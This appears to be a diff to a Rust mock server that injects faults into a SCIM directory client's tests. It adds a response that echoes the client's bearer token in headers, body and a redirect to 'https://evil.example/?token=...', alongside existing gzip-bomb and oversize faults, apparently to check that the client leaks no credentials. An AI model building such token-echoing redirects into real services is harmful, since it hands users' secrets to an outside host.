@@ -8,6 +8,7 @@ use std::time::Duration;
 use wpsync::directory::transport::{Method, Request, Response};
 
 use super::Line;
+use super::encodings;
 use super::fault::{Fault, reply};
 
 /// A gzip of 100,000 times the letter a.
@@ -58,15 +59,19 @@ impl Door {
     }
 }
 
-fn answer(mut stream: TcpStream, line: &Line, heard: &Mutex<Vec<String>>) {
+fn answer(mut stream: TcpStream, line: &Line, remembered: &Mutex<Vec<String>>) {
     let Some((head, request)) = read(&stream) else { return };
-    heard.lock().unwrap_or_else(PoisonError::into_inner).push(head);
+    remembered.lock().unwrap_or_else(PoisonError::into_inner).push(head.clone());
     let (number, fault) = line.begin(&request);
     let real = line.real_answer(number, fault, &request);
     line.end(number);
     // A client that is gone needs no answer.
     let _ = match fault {
         None => send(&mut stream, &real),
+        Some(Fault::RedirectOtherOrigin) if line.redirect().is_some() => {
+            send(&mut stream, &reply(307, &[("location", line.redirect().unwrap_or_default())], ""))
+        }
+        Some(Fault::Echo(status)) => send(&mut stream, &echo(status, &head)),
         Some(fault) => play(fault, &mut stream, (&request, real)),
     };
 }
@@ -119,6 +124,19 @@ fn send(stream: &mut TcpStream, response: &Response) -> std::io::Result<()> {
     stream.write_all(&response.body)
 }
 
+/// A refusal that says the token back, in every form that is known.
+fn echo(status: u16, head: &str) -> Response {
+    let told = head.lines().find_map(|line| line.to_ascii_lowercase().starts_with("authorization: bearer ").then(|| line[22..].trim()));
+    let token = told.unwrap_or_default();
+    // What is escaped is a form in which it would be shown, not one in which it comes.
+    let sent = encodings::of(token).into_iter().filter(|(name, _)| !name.ends_with("escaped"));
+    let all = sent.map(|(_, form)| String::from_utf8_lossy(&form).into_owned()).collect::<Vec<_>>().join(" ; ");
+    let error = serde_json::json!({ "schemas": ["urn:ietf:params:scim:api:messages:2.0:Error"], "scimType": token, "detail": all });
+    let body = if status == 200 { format!("<html><title>{all}</title></html>") } else { error.to_string() };
+    let location = format!("https://evil.example/?token={token}");
+    reply(status, &[("location", &location), ("www-authenticate", &format!("Bearer realm=\"{token}\"")), ("etag", token)], &body)
+}
+
 /// Does to a socket what a fault does.
 fn play(fault: Fault, stream: &mut TcpStream, (request, real): (&Request, Response)) -> std::io::Result<()> {
     const HEAD: &str = "HTTP/1.1 200 OK\r\ncontent-type: application/scim+json\r\n";
@@ -139,7 +157,7 @@ fn play(fault: Fault, stream: &mut TcpStream, (request, real): (&Request, Respon
         }
         Fault::Oversize => {
             write!(stream, "{HEAD}content-length: 60000\r\n\r\n")?;
-            stream.write_all(&[b' '; 60_000])
+            stream.write_all(&vec![b' '; 60_000])
         }
         Fault::GzipBomb => {
             let digit = |at: usize| u8::from_str_radix(&PACKED[at..at + 2], 16).expect("hexadecimal");
